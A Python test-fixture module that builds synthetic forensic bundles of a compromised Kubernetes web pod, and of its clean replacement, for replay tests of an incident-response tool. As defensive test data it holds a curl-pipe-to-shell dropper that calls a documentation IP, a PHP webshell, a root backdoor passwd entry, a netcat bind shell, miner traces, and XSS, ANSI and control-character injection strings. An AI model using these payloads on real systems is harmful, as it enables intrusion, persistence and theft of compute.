"""Synthetic bundles for replay tests (and for samples/bundles/make_samples.py).

`build_bundle(directory, spec)` writes a sealed bundle through the real BundleWriter, laid out as
ir/records describes (containers/<name>/processes.jsonl, ..., k8s/*.json, alert.json), with the
writer's clock frozen so the same spec gives the same bytes. The pod scenarios are built, not
copied: a `WebPod` (one run of the shop's web pod) gives the records every run has, and
`compromised_spec()` adds the facts the replay views must show to one (COMPROMISED_POD), while
`clean_spec()` is its clean replacement (REPLACEMENT_POD) for `ir bundle diff`;
`sample_container_spec()` is what `ir capture container` records of samples/compromised/ (the
shapes of a real capture, the times of the run the fidelity issue reported).
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import tarfile
import types
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from click.testing import CliRunner

import ir.bundle.custody as custody_module
import ir.bundle.writer as writer_module
from ir.bundle.custody import FileCustody, append_record
from ir.bundle.manifest import CollectorEntry
from ir.bundle.writer import BundleWriter, SealedBundle
from ir.cli.main import main
from ir.clock import rfc3339
from ir.errors import ExitCode
from ir.records import FileChange, LogLine, ProcessRecord, Record, SocketRecord
from ir.store.local import custody_path

CAPTURE_START = datetime(2025, 3, 14, 10, 30, 0, tzinfo=UTC)


def t(hms: str, day: str = "2025-03-14") -> str:
    """RFC 3339 UTC as ir writes it, from 'HH:MM:SS[.ffffff]' on the scenario's day."""
    dt = datetime.fromisoformat(f"{day}T{hms}+00:00")
    return rfc3339(dt) or ""


def epoch(hms: str, day: str = "2025-03-14") -> float:
    return datetime.fromisoformat(f"{day}T{hms}+00:00").timestamp()


@dataclass
class ContainerSpec:
    processes: list[ProcessRecord] = field(default_factory=list)
    sockets: list[SocketRecord] = field(default_factory=list)
    changes: list[FileChange] = field(default_factory=list)
    # path -> content | ("symlink", target)
    files: dict[str, bytes | tuple[str, str]] = field(default_factory=dict)
    logs: dict[str, list[LogLine]] = field(default_factory=dict)  # instance -> lines
    deleted_exes: dict[str, bytes] = field(default_factory=dict)  # sha256 -> binary
    inspect: dict[str, Any] | None = None
    image: dict[str, Any] | None = None
    network: dict[str, Any] | None = None


@dataclass
class BundleSpec:
    bundle_id: str
    case_id: str
    target: dict[str, Any]
    containers: dict[str, ContainerSpec]
    # what -> document (k8s/<what>.json, kind k8s-<what>)
    k8s: dict[str, Any] = field(default_factory=dict)
    alert: dict[str, Any] | None = None
    reason: str | None = None
    operator: str = "alice"
    capture_start: datetime = CAPTURE_START
    # action, target, detail
    actions: list[tuple[str, str, dict[str, Any]]] = field(default_factory=list)
    # name, container, error
    failed_collectors: list[tuple[str, str | None, str]] = field(default_factory=list)
    # action, detail (after "created")
    custody: list[tuple[str, dict[str, Any]]] = field(default_factory=list)


@contextlib.contextmanager
def frozen_clock(start: datetime) -> Iterator[Callable[[], datetime]]:
    """The writer's and the custody log's clocks, frozen at `start` + 100 ms per reading, so a
    spec always produces the same bytes (samples are committed)."""
    ticks = [0]

    def now() -> datetime:
        ticks[0] += 1
        return start + timedelta(milliseconds=100 * ticks[0])

    saved = (writer_module.utcnow, writer_module.time, custody_module.utcnow, custody_module.socket)
    writer_module.utcnow = now  # type: ignore[assignment]
    writer_module.time = types.SimpleNamespace(time=lambda: start.timestamp())  # type: ignore[assignment]
    custody_module.utcnow = now  # type: ignore[assignment]
    custody_module.socket = types.SimpleNamespace(gethostname=lambda: "ir-workstation")  # type: ignore[assignment]
    try:
        yield now
    finally:
        writer_module.utcnow, writer_module.time, custody_module.utcnow, custody_module.socket = (
            saved  # type: ignore[assignment]
        )


def jsonl(records: Iterable[Record]) -> bytes:
    return b"".join(r.to_line() for r in records)


def tar_of(files: dict[str, bytes | tuple[str, str]], mtime: float) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for path, content in files.items():
            info = tarfile.TarInfo(path.lstrip("/"))
            info.mtime = int(mtime)
            if isinstance(content, tuple):
                info.type, info.linkname = tarfile.SYMTYPE, content[1]
                tar.addfile(info)
            else:
                info.size, info.mode = len(content), 0o755
                tar.addfile(info, io.BytesIO(content))
    return buf.getvalue()


def build_bundle(directory: Path, spec: BundleSpec, *, signer: Any = None) -> SealedBundle:
    """Write `spec` as a sealed bundle (plus its custody log) in `directory`."""
    with frozen_clock(spec.capture_start) as now:
        writer = BundleWriter(
            directory,
            case_id=spec.case_id,
            target=spec.target,
            operator=spec.operator,
            host={"hostname": "ir-workstation", "platform": "Linux"},
            tool={"name": "ir", "version": "0.1.0"},
            reason=spec.reason,
            bundle_id=spec.bundle_id,
            threads=1,
        )
        for action, target, detail in spec.actions:
            writer.record_action(action, target, **detail)
        for name, c in spec.containers.items():
            _write_container(writer, name, c, spec.capture_start, now)
        if spec.k8s:
            made = []
            for what, doc in spec.k8s.items():
                writer.add_json(
                    f"k8s/{what}.json", doc, kind=f"k8s-{what}", collector="k8s-context"
                )
                made.append(f"k8s/{what}.json")
            writer.record_collector(
                CollectorEntry("k8s-context", "ok", rfc3339(now()), rfc3339(now()), artifacts=made)
            )
        if spec.alert is not None:
            writer.add_json("alert.json", spec.alert, kind="alert", collector="alert")
            writer.record_collector(
                CollectorEntry(
                    "alert", "ok", rfc3339(now()), rfc3339(now()), artifacts=["alert.json"]
                )
            )
        for name, container, error in spec.failed_collectors:
            writer.record_collector(
                CollectorEntry(
                    name, "failed", rfc3339(now()), rfc3339(now()), error=error, container=container
                )
            )
        sealed = writer.seal(signer)
        log = FileCustody(custody_path(sealed.path))
        append_record(
            log,
            action="created",
            bundle_id=spec.bundle_id,
            bundle_digest=sealed.root_digest,
            actor=spec.operator,
            detail={"location": sealed.path.name, "outcome": sealed.manifest.outcome},
        )
        for action, detail in spec.custody:
            append_record(
                log,
                action=action,
                bundle_id=spec.bundle_id,
                bundle_digest=sealed.root_digest,
                actor=spec.operator,
                detail=detail,
            )
    return sealed


def _write_container(
    writer: BundleWriter, name: str, c: ContainerSpec, start: datetime, now: Callable[[], datetime]
) -> None:
    scope = f"containers/{name}"
    began = rfc3339(now())
    made: list[str] = []

    def add(
        artifact: str, data: bytes, kind: str, media_type: str, collector: str, **meta: Any
    ) -> None:
        writer.add_bytes(
            f"{scope}/{artifact}",
            data,
            kind=kind,
            media_type=media_type,
            collector=collector,
            container=name,
            meta=meta,
        )
        made.append(f"{scope}/{artifact}")

    if c.inspect is not None:
        writer.add_json(
            f"{scope}/inspect.json",
            c.inspect,
            kind="container-inspect",
            collector="metadata",
            container=name,
        )
        made.append(f"{scope}/inspect.json")
    if c.image is not None:
        writer.add_json(
            f"{scope}/image.json",
            c.image,
            kind="image-inspect",
            collector="metadata",
            container=name,
        )
        made.append(f"{scope}/image.json")
    add("processes.jsonl", jsonl(c.processes), "processes", ProcessRecord.media_type(), "processes")
    add("sockets.jsonl", jsonl(c.sockets), "sockets", SocketRecord.media_type(), "network")
    if c.network is not None:
        writer.add_json(
            f"{scope}/network.json", c.network, kind="network", collector="network", container=name
        )
        made.append(f"{scope}/network.json")
    add("fs-changes.jsonl", jsonl(c.changes), "fs-changes", FileChange.media_type(), "fs-diff")
    add(
        "fs-files.tar",
        tar_of(c.files, start.timestamp()),
        "fs-files",
        "application/x-tar",
        "fs-diff",
    )
    if c.deleted_exes:
        exes: dict[str, bytes | tuple[str, str]] = dict(c.deleted_exes)
        add(
            "deleted-exes.tar",
            tar_of(exes, start.timestamp()),
            "deleted-exes",
            "application/x-tar",
            "processes",
        )
    for instance, lines in c.logs.items():
        add(
            f"logs-{instance}.jsonl",
            jsonl(lines),
            "logs",
            LogLine.media_type(),
            "logs",
            instance=instance,
        )
    writer.record_collector(
        CollectorEntry("container", "ok", began, rfc3339(now()), artifacts=made, container=name)
    )


def change(
    path: str,
    kind: str,
    *,
    type: str = "file",
    content: bytes | None = None,
    mode: str | None = "0644",
    mtime: str | None = None,
    ctime: str | None = None,
    link_target: str | None = None,
    skipped: str | None = None,
) -> FileChange:
    """A FileChange; `content` given means captured (sha256 and size from it)."""
    executable = type == "file" and mode is not None and int(mode, 8) & 0o111 != 0
    return FileChange(
        path=path,
        change=kind,
        type=type,
        size=len(content) if content is not None else None,
        mode=mode,
        uid=0,
        gid=0,
        mtime=mtime,
        ctime=ctime or mtime,
        link_target=link_target,
        sha256=hashlib.sha256(content).hexdigest() if content is not None else None,
        captured=content is not None or link_target is not None,
        skipped=skipped,
        executable=executable,
    )


def log(
    time: str | None,
    message: str,
    stream: str = "stdout",
    container: str = "web",
    instance: str = "current",
) -> LogLine:
    return LogLine(
        time=time, stream=stream, message=message, container=container, instance=instance
    )


# -- the shop's web pod: what the pod scenarios are built from ---------------------------------

WEB_IMAGE = "registry.example/shop/web:1.4.2"
AGENT_IMAGE = "registry.example/ops/agent:2.0"
INGRESS = "10.244.0.5"  # the peer of every connection the web pod serves (and of its probes)


def later(hms: str, ms: int) -> str:
    """`t(hms)`, `ms` milliseconds later."""
    moment = datetime.fromisoformat(f"2025-03-14T{hms}+00:00") + timedelta(milliseconds=ms)
    return rfc3339(moment) or ""


@dataclass(frozen=True)
class WebPod:
    """One run of the shop's web pod (namespace shop, Deployment web): nginx in container `web`
    serving port 80, the monitoring agent in `agent` listening on 9090, one network namespace
    for both (each container's socket table shows the other's sockets too).

    Each pod scenario is built from one: the records every run of the pod has come from here,
    the scenario adds what it plants (`compromised_spec`) or nothing (`clean_spec`). Times are
    HH:MM:SS[.fff] on the scenario's day."""

    name: str  # the pod: web-<hash>
    uid: str
    ip: str
    since: str  # when the pod was created: its Kubernetes times count from here
    agent_restarts: int  # before the capture (an OOM kill, in its pod status and events)
    web_id: str  # the containers' runtime ids
    agent_id: str
    web_created: str
    web_started: str  # the runtime's State.StartedAt, with the nanoseconds it gives
    nginx_started: str  # nginx's master: its pid file 1 ms later, client_temp 2, its worker 10
    notice_at: str  # nginx's "start worker processes" line
    agent_created: str
    agent_started: str  # HH:MM:SS; its process 10 ms later, its first log line 100 ms later
    nginx_pid: int  # the master's host pid: its shim is 21 below, its worker 29 above, the agent 99
    web_inodes: int  # web's socket inodes: the listener's is 1 above, the served connection's 10
    agent_inodes: int  # the agent's listener's is 3 above
    client_port: int  # the ingress's end of the served connection

    @property
    def worker_pid(self) -> int:
        return self.nginx_pid + 29

    @property
    def agent_pid(self) -> int:
        return self.nginx_pid + 99

    def web_inspect(self, **state: Any) -> dict[str, Any]:
        """What the runtime says of `web`; `state`: what more it says in State."""
        return {
            "Id": self.web_id,
            "Name": f"/k8s_web_{self.name}",
            "Created": t(self.web_created),
            "State": {"Status": "running", "StartedAt": self.web_started, **state},
            "Config": {"Image": WEB_IMAGE, "ExposedPorts": {"80/tcp": {}}},
        }

    def agent_inspect(self) -> dict[str, Any]:
        """What the runtime says of `agent`."""
        return {
            "Id": self.agent_id,
            "Name": f"/k8s_agent_{self.name}",
            "Created": t(self.agent_created),
            "State": {
                "Status": "running",
                "StartedAt": f"2025-03-14T{self.agent_started}.000000000Z",
            },
            "Config": {"Image": AGENT_IMAGE},
        }

    def nginx(self, *, state: str | None = None, fds: bool = False) -> list[ProcessRecord]:
        """nginx's master (pid 1 of `web`) and its worker; `state` and `fds` (each one's socket:
        the listener, the served connection) when the capture read them."""

        def holding(inode: int) -> list[str]:
            return [f"socket:[{inode}]"] if fds else []

        common: dict[str, Any] = {
            "name": "nginx",
            "exe": "/usr/sbin/nginx",
            "exe_sha256": "1" * 64,
            "state": state,
        }
        return [
            ProcessRecord(
                pid=self.nginx_pid,
                ppid=self.nginx_pid - 21,
                ns_pid=1,
                uid=0,
                user="root",
                cmdline=["nginx: master process nginx -g daemon off;"],
                start_time=t(self.nginx_started),
                fds=holding(self.web_inodes + 1),
                **common,
            ),
            ProcessRecord(
                pid=self.worker_pid,
                ppid=self.nginx_pid,
                ns_pid=29,
                uid=33,
                user="www-data",
                cmdline=["nginx: worker process"],
                start_time=later(self.nginx_started, 10),
                fds=holding(self.web_inodes + 10),
                **common,
            ),
        ]

    def agent_process(self, *, fds: bool = False) -> ProcessRecord:
        """The agent (pid 1 of `agent`); `fds` (its listener) when the capture read them."""
        return ProcessRecord(
            pid=self.agent_pid,
            ppid=self.agent_pid - 10,
            ns_pid=1,
            uid=1000,
            user="agent",
            name="agent",
            cmdline=["/usr/local/bin/agent", "--listen=:9090"],
            exe="/usr/local/bin/agent",
            exe_sha256="3" * 64,
            start_time=later(self.agent_started, 10),
            fds=[f"socket:[{self.agent_inodes + 3}]"] if fds else [],
        )

    def listener(self) -> SocketRecord:
        """nginx listening on port 80, the one the pod spec declares for `web`."""
        inode, pid = self.web_inodes + 1, self.nginx_pid
        return SocketRecord("tcp", "0.0.0.0", 80, "0.0.0.0", 0, "LISTEN", inode, 0, pid, "nginx")

    def served(self) -> SocketRecord:
        """A connection the worker serves, from the ingress."""
        inode, port, pid = self.web_inodes + 10, self.client_port, self.worker_pid
        return SocketRecord(
            "tcp", self.ip, 80, INGRESS, port, "ESTABLISHED", inode, 33, pid, "nginx"
        )

    def agent_listener(self) -> SocketRecord:
        """The agent listening on 9090, the port the pod spec declares for it."""
        inode, pid = self.agent_inodes + 3, self.agent_pid
        return SocketRecord("tcp6", "::", 9090, "::", 0, "LISTEN", inode, 1000, pid, "agent")

    def nginx_changes(self) -> list[FileChange]:
        """What nginx changes in `web` as it starts: its pid file and its client_temp directory."""
        start = self.nginx_started
        return [
            change("/run/nginx.pid", "added", content=NGINX_PID, mtime=later(start, 1)),
            change(
                "/var/cache/nginx/client_temp",
                "added",
                type="dir",
                mode="0700",
                mtime=later(start, 2),
            ),
        ]

    def notice(self) -> LogLine:
        """nginx's first log line, on stderr."""
        text = f"2025/03/14 {self.notice_at[:8]} [notice] 1#1: start worker processes"
        return log(t(self.notice_at), text, "stderr")

    def agent_starting(self) -> LogLine:
        """The agent's first log line (klog), on stderr."""
        at = later(self.agent_started, 100)
        return log(
            at, f"I0314 {at[11:26]}       1 main.go:20] agent v1.2 starting", "stderr", "agent"
        )

    def spec(
        self,
        *,
        bundle_id: str,
        reason: str,
        web: ContainerSpec,
        agent: ContainerSpec,
        suspicious: bool,
        k8s: dict[str, Any] | None = None,
        **more: Any,
    ) -> BundleSpec:
        """The capture of this pod for case INC-42: its two containers, its pod and events
        (`suspicious`: with the agent's back-off and failing probes) and `k8s`'s documents."""
        return BundleSpec(
            bundle_id=bundle_id,
            case_id="INC-42",
            target={"kind": "pod", "namespace": "shop", "name": self.name, "uid": self.uid},
            reason=reason,
            containers={"web": web, "agent": agent},
            k8s={
                "pod": _pod(self.name, self.ip, restarts=self.agent_restarts, start=self.since),
                "events": _events(self.name, suspicious=suspicious, start=self.since),
                **(k8s or {}),
            },
            **more,
        )


# The pod the scenarios of an intrusion were captured from, and its clean replacement.
COMPROMISED_POD = WebPod(
    name="web-7f9c",
    uid="6b1f0e44-1c2d-4e5f-9a8b-7c6d5e4f3a2b",
    ip="10.244.1.17",
    since="08:00:00",
    agent_restarts=1,
    web_id="3f2a9c0d" * 8,
    agent_id="9e8d7c6b" * 8,
    web_created="08:00:03.200",
    web_started="2025-03-14T08:00:05.123456789Z",
    nginx_started="08:00:05.130",
    notice_at="08:00:05.200",
    agent_created="08:00:04.000",
    agent_started="08:30:02",
    nginx_pid=4101,
    web_inodes=70000,
    agent_inodes=90000,
    client_port=51234,
)
REPLACEMENT_POD = WebPod(
    name="web-8d2e",
    uid="0c9b8a7f-6e5d-4c3b-2a19-08f7e6d5c4b3",
    ip="10.244.2.9",
    since="10:31:00",
    agent_restarts=0,
    web_id="7a6b5c4d" * 8,
    agent_id="1a2b3c4d" * 8,
    web_created="10:31:00.000",
    web_started="2025-03-14T10:31:02.000000000Z",
    nginx_started="10:31:02.010",
    notice_at="10:31:02.100",
    agent_created="10:31:00.500",
    agent_started="10:31:03",
    nginx_pid=6101,
    web_inodes=71000,
    agent_inodes=91000,
    client_port=53311,
)


# -- the compromised pod -----------------------------------------------------------------------

KWORKER = b"\x7fELF\x02\x01\x01" + b"reverse-shell-to-203.0.113.7:4444" * 4
SYSUPDATE = b"\x7fELF\x02\x01\x01" + b"backdoor" * 16
MINER = b"\x7fELF\x02\x01\x01" + b"xmrig" * 20
PAYLOAD = b"#!/bin/sh\ncurl -s http://203.0.113.7/k -o /tmp/.kworker && chmod +x /tmp/.kworker && /tmp/.kworker -c 203.0.113.7:4444 &\nrm -f /tmp/.kworker\n"
PASSWD = b"root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nsysupdate:x:0:0::/root:/bin/sh\n"
WEBSHELL = b"<?php system($_GET['cmd']); ?>\n"
NGINX_PID = b"1\n"
HOSTILE_PATH = "/tmp/evil\x1b[31mname\nline2"
XSS = "<script>alert('xss')</script><img src=x onerror=alert(1)>"
ANSI = "\x1b[2J\x1b[31mALL CLEAR\x1b[0m"

# What the views must show (tests assert every one).
PLANTED = {
    "deleted_exe": {"pid": 5133, "exe": "/tmp/.kworker"},
    "late_processes": [5120, 5133, 5140],
    "undeclared_listener": 31337,
    "declared_listeners": [80, 9090],
    "outbound": ("203.0.113.7", 4444),
    "bin_dir_files": ["/usr/bin/.sysupdate", "/etc/passwd", "/usr/local/bin/helper"],
    "temp_executables": ["/tmp/payload.sh", "/dev/shm/.x/miner"],
    "alert_time": "2025-03-14T09:12:03.512000Z",
}
# Lines of the agent's previous instance carry no runtime time: the time in their text is used.
# (message, format, expected UTC) -- five formats and more.
MESSAGE_TIMES = [
    (
        "I0314 08:10:00.250000       1 main.go:20] agent v1.2 starting",
        "klog",
        "2025-03-14T08:10:00.250000Z",
    ),
    (
        '2025-03-14T09:20:00.500+01:00 level=info msg="config loaded"',
        "rfc3339",
        "2025-03-14T08:20:00.500000Z",
    ),
    ("<30>Mar 14 08:25:00 web-7f9c agent[1]: memory high", "syslog", "2025-03-14T08:25:00.000000Z"),
    (
        '{"level":"info","ts":' + str(epoch("08:27:30.750")) + ',"msg":"flush"}',
        "epoch",
        "2025-03-14T08:27:30.750000Z",
    ),
    (
        '{"t":' + str(int(epoch("08:28:00") * 1000)) + ',"msg":"heartbeat"}',
        "epoch",
        "2025-03-14T08:28:00.000000Z",
    ),
    (
        '10.0.0.9 - - [14/Mar/2025:00:29:59 -0800] "POST /metrics HTTP/1.1" 204 0',
        "clf",
        "2025-03-14T08:29:59.000000Z",
    ),
    ("2025/03/14 08:29:59.900000 go: shutting down on OOM", "golog", "2025-03-14T08:29:59.900000Z"),
]


def compromised_spec() -> BundleSpec:
    pod = COMPROMISED_POD
    # the backdoor's listener (its owner found through the fds of pid 5133), seen by both
    # containers: one network namespace
    backdoor = SocketRecord("tcp", "0.0.0.0", 31337, "0.0.0.0", 0, "LISTEN", 88002, 33)
    web = ContainerSpec(
        inspect={
            **pod.web_inspect(FinishedAt="0001-01-01T00:00:00Z", Pid=pod.nginx_pid),
            "Image": "sha256:" + "ab" * 32,
        },
        image={
            "Id": "sha256:" + "ab" * 32,
            "RepoTags": [WEB_IMAGE],
            "Created": "2025-02-20T11:00:00.000000000Z",
        },
        network={
            "interfaces": [
                {"name": "eth0", "addresses": [f"{pod.ip}/24"]},
                {"name": "lo", "addresses": ["127.0.0.1/8"]},
            ],
            "routes": [],
            "resolv_conf": "nameserver 10.96.0.10\n",
            "hosts": "",
            "netns": "net:[4026532290]",
        },
        processes=[
            *pod.nginx(state="S", fds=True),
            ProcessRecord(
                pid=5120,
                ppid=pod.worker_pid,
                ns_pid=31,
                uid=33,
                user="www-data",
                name="sh",
                cmdline=["sh", "-c", "curl -s http://203.0.113.7/x | sh"],
                exe="/bin/dash",
                exe_sha256="2" * 64,
                start_time=t("09:12:03.400"),
                state="S",
            ),
            ProcessRecord(
                pid=5133,
                ppid=5120,
                ns_pid=35,
                uid=33,
                user="www-data",
                name=".kworker",
                cmdline=["/tmp/.kworker", "-c", "203.0.113.7:4444"],
                exe="/tmp/.kworker (deleted)",
                exe_sha256=hashlib.sha256(KWORKER).hexdigest(),
                exe_deleted=True,
                start_time=t("09:12:07.010"),
                state="S",
                fds=["socket:[88001]", "socket:[88002]"],
            ),
            ProcessRecord(
                pid=5140,
                ppid=5133,
                ns_pid=40,
                uid=33,
                user="www-data",
                name="miner",
                cmdline=["/dev/shm/.x/miner", "--donate-level", "0"],
                exe="/dev/shm/.x/miner",
                exe_sha256=hashlib.sha256(MINER).hexdigest(),
                start_time=t("09:14:00.000"),
                state="R",
            ),
        ],
        sockets=[
            pod.listener(),
            backdoor,
            pod.served(),
            SocketRecord("tcp", pod.ip, 40112, "203.0.113.7", 4444, "ESTABLISHED", 88001, 33),
            # the agent probing nginx over loopback: both ends
            SocketRecord(
                "tcp",
                "127.0.0.1",
                45678,
                "127.0.0.1",
                80,
                "ESTABLISHED",
                90001,
                1000,
                pod.agent_pid,
                "agent",
            ),
            SocketRecord(
                "tcp",
                "127.0.0.1",
                80,
                "127.0.0.1",
                45678,
                "ESTABLISHED",
                90002,
                33,
                pod.worker_pid,
                "nginx",
            ),
            pod.agent_listener(),
            SocketRecord(
                "unix",
                state="LISTEN",
                inode=70020,
                pid=pod.nginx_pid,
                process="nginx",
                path="/run/nginx.sock",
            ),
        ],
        changes=[
            *pod.nginx_changes(),
            change(
                "/tmp/payload.sh", "added", content=PAYLOAD, mode="0755", mtime=t("09:12:05.000")
            ),
            change(
                "/usr/bin/.sysupdate",
                "added",
                content=SYSUPDATE,
                mode="0755",
                mtime=t("12:00:00", "2019-06-01"),
                ctime=t("09:13:00.000"),
            ),
            change(
                "/usr/local/bin/helper",
                "added",
                type="symlink",
                mode="0777",
                link_target="/dev/shm/.x/miner",
                mtime=t("09:13:05.000"),
            ),
            change("/etc/passwd", "changed", content=PASSWD, mtime=t("09:13:30.000")),
            change("/var/www/html/shell.php", "added", content=WEBSHELL, mtime=t("09:11:50.000")),
            change("/dev/shm/.x", "added", type="dir", mode="0755", mtime=t("09:13:58.000")),
            change(
                "/dev/shm/.x/miner", "added", content=MINER, mode="0755", mtime=t("09:13:58.500")
            ),
            change("/var/log/nginx/access.log", "deleted", mode=None),
            change(HOSTILE_PATH, "added", content=b"x", mtime=t("09:14:30.000")),
            change(
                "/var/lib/big.db",
                "added",
                mode="0644",
                mtime=t("09:15:00.000"),
                skipped="over --max-file-size",
            ),
        ],
        deleted_exes={hashlib.sha256(KWORKER).hexdigest(): KWORKER},
        files={
            "/run/nginx.pid": NGINX_PID,
            "/tmp/payload.sh": PAYLOAD,
            "/usr/bin/.sysupdate": SYSUPDATE,
            "/usr/local/bin/helper": ("symlink", "/dev/shm/.x/miner"),
            "/etc/passwd": PASSWD,
            "/var/www/html/shell.php": WEBSHELL,
            "/dev/shm/.x/miner": MINER,
            HOSTILE_PATH: b"x",
        },
        logs={
            "current": [
                pod.notice(),
                log(
                    t("09:11:50.100"),
                    '10.244.0.5 - - [14/Mar/2025:09:11:50 +0000] "POST /upload.php HTTP/1.1" 201 12 "-" "python-requests/2.31"',
                ),
                log(
                    t("09:11:58.300"),
                    '10.244.0.5 - - [14/Mar/2025:09:11:58 +0000] "GET /shell.php?cmd=id HTTP/1.1" 200 54 "-" "curl/8.5"',
                ),
                log(
                    t("09:12:01.700"),
                    "2025/03/14 09:12:01 [error] 29#29: *7 upstream timed out (110: Connection timed out)",
                    "stderr",
                ),
                log(
                    t("09:12:03.300"),
                    '10.244.0.5 - - [14/Mar/2025:09:12:03 +0000] "GET /shell.php?cmd=curl%20-s%20http://203.0.113.7/x|sh HTTP/1.1" 200 0 "-" "curl/8.5"',
                ),
                log(t("09:12:09.000"), f"GET /search?q={XSS} 404"),
                log(t("09:12:10.000"), f"status: {ANSI}"),
            ]
        },
    )
    agent = ContainerSpec(
        inspect=pod.agent_inspect(),
        processes=[pod.agent_process(fds=True)],
        sockets=[backdoor, pod.agent_listener()],  # web's network namespace: its sockets again
        logs={
            "current": [
                pod.agent_starting(),
                log(
                    t("09:12:04.250"),
                    "I0314 09:12:04.250000       1 watcher.go:88] new process pid=5120 comm=sh",
                    "stderr",
                    "agent",
                ),
                log(
                    t("09:12:07.600"),
                    '{"level":"warn","ts":'
                    + str(epoch("09:12:07.500"))
                    + ',"msg":"outbound connection","dst":"203.0.113.7:4444"}',
                    container="agent",
                ),
                log(
                    t("09:13:31.000"),
                    "<86>Mar 14 09:13:31 web-7f9c useradd[88]: new user: name=sysupdate, UID=0",
                    container="agent",
                ),
                log(
                    t("09:14:01.300"),
                    '2025-03-14T10:14:01.250+01:00 level=warn msg="cpu usage 398%"',
                    container="agent",
                ),
            ],
            "previous": [
                log(None, m, container="agent", instance="previous") for m, _, _ in MESSAGE_TIMES
            ]
            + [log(None, "a line with no time at all", container="agent", instance="previous")],
        },
    )
    return pod.spec(
        bundle_id="5d0c1b2a-7e3f-4a9b-8c6d-0f1e2d3c4b5a",
        reason="falco: Terminal shell in container",
        web=web,
        agent=agent,
        suspicious=True,
        k8s={
            "owners": _owners(),
            "node": {
                "metadata": {"name": "node-1"},
                "status": {"nodeInfo": {"kubeletVersion": "v1.35.4"}},
            },
            "services": [
                {
                    "metadata": {"name": "web", "namespace": "shop"},
                    "spec": {"ports": [{"port": 80}]},
                }
            ],
            "networkpolicies": [],
            "serviceaccount": {"metadata": {"name": "default", "namespace": "shop"}},
            "rbac": {"roles": [], "rolebindings": []},
        },
        alert={
            "source": "falco",
            "rule": "Terminal shell in container",
            "priority": "Warning",
            "time": "2025-03-14T09:12:03.512000Z",
            "target": {
                "namespace": "shop",
                "pod": "web-7f9c",
                "container": "web",
                "node": "node-1",
            },
            "message": "A shell was spawned in a container (user=www-data shell=sh parent=nginx cmdline=sh -c curl -s http://203.0.113.7/x | sh)",
            "raw": {
                "rule": "Terminal shell in container",
                "priority": "Warning",
                "time": "2025-03-14T09:12:03.512345678Z",
                "output": "09:12:03.512345678: Warning Shell spawned (user=www-data shell=sh parent=nginx)",
                "output_fields": {
                    "k8s.pod.name": "web-7f9c",
                    "k8s.ns.name": "shop",
                    "container.id": "3f2a9c0d3f2a",
                },
            },
        },
        actions=[
            ("annotate", "pod shop/web-7f9c", {"annotation": "ir.example/capture=INC-42"}),
            ("docker-api", "container web", {"call": "GET /containers/3f2a9c0d/logs?timestamps=1"}),
        ],
        failed_collectors=[
            ("image-history", "agent", "ConnectionError: registry.example unreachable")
        ],
        custody=[
            ("respond", {"action": "quarantine", "networkpolicy": "ir-quarantine-web-7f9c"}),
            ("respond", {"action": "replace", "new_pod": "web-8d2e"}),
        ],
    )


# -- the sample compromised container (samples/compromised/compromised.sh) ----------------------

BUSYBOX = b"\x7fELF\x02\x01\x01" + b"busybox" * 16
STAGE2 = b"#!/bin/sh\nIR-SAMPLE stage2: curl -s http://c2.invalid/x | sh\n"
# What the sample does, as ir records it: the runtime's nanosecond times, process starts from the
# boot clock (btime in whole seconds + 10 ms ticks: they read before the runtime's "started"), a
# whiteout's nanosecond ctime for /etc/motd (deleted ~90 s after the start), the C2 pair on
# loopback whose `nc -l` listener closed after accepting.
SAMPLE = {
    "container": "ir-compromised",
    "created": "2025-03-14T10:00:44.702815311Z",
    "started": "2025-03-14T10:00:45.771234567Z",
    "image_created": "2025-03-14T06:00:00.123456789Z",
    "init_start": "2025-03-14T10:00:45.130000Z",
    "motd_deleted": "2025-03-14T10:02:15.512345678Z",
    "motd_image_mtime": "2025-03-14T06:00:00.000000000Z",
    "stage2_written": "2025-03-14T10:00:45.801234567Z",
    "accepted": ("::ffff:127.0.0.1", 4444, 50778),  # the end `nc -l -p 4444` accepted
    "connected": ("127.0.0.1", 50778, 4444),  # /tmp/.x/busybox nc 127.0.0.1 4444
    "listener": 31337,
}


def sample_container_spec() -> BundleSpec:
    name = SAMPLE["container"]
    assert isinstance(name, str)

    def proc(pid: int, ns_pid: int, start: str, cmdline: list[str], **kw: Any) -> ProcessRecord:
        return ProcessRecord(
            pid=pid,
            ppid=kw.pop("ppid", 9100),
            ns_pid=ns_pid,
            uid=0,
            user="root",
            name=cmdline[0].rsplit("/", 1)[-1],
            cmdline=cmdline,
            exe=kw.pop("exe", "/bin/busybox"),
            exe_sha256=kw.pop("exe_sha256", "4" * 64),
            start_time=t(start),
            state="S",
            source="procfs",
            **kw,
        )

    busybox_sha = hashlib.sha256(BUSYBOX).hexdigest()
    container = ContainerSpec(
        inspect={
            "Id": "5a3c" * 16,
            "Name": f"/{name}",
            "Created": SAMPLE["created"],
            "Image": "sha256:" + "cd" * 32,
            "State": {
                "Status": "running",
                "StartedAt": SAMPLE["started"],
                "FinishedAt": "0001-01-01T00:00:00Z",
                "Pid": 9101,
            },
            "Config": {"Image": "ir-testbed/busybox:latest"},
        },
        image={  # as ir writes image.json: the inspect document and the history
            "inspect": {
                "Id": "sha256:" + "cd" * 32,
                "RepoTags": ["ir-testbed/busybox:latest"],
                "Created": SAMPLE["image_created"],
            },
            "history": [],
        },
        network={
            "netns": "net:[4026532401]",
            "source": "procfs",
            "interfaces": [
                {"name": "lo", "addresses": [{"address": "127.0.0.1", "family": "inet"}]},
                {"name": "eth0", "addresses": [{"address": "172.31.254.2", "family": "inet"}]},
            ],
            "routes": [],
            "socket_tables": {t: "read" for t in ("tcp", "tcp6", "udp", "udp6", "unix")},
        },
        processes=[
            proc(9101, 1, "10:00:45.130000", ["sh", "/sample/compromised.sh"]),
            proc(9120, 10, "10:00:45.350000", ["sleep", "1000000"], ppid=9101),
            proc(9121, 11, "10:00:45.350000", ["nc", "-l", "-p", "4444"], ppid=9101),
            proc(
                9122,
                12,
                "10:00:45.350000",
                ["nc", "-ll", "-p", "31337", "-e", "/bin/sh"],
                ppid=9101,
            ),
            proc(
                9140,
                20,
                "10:00:45.410000",
                ["/tmp/.x/busybox", "nc", "127.0.0.1", "4444"],
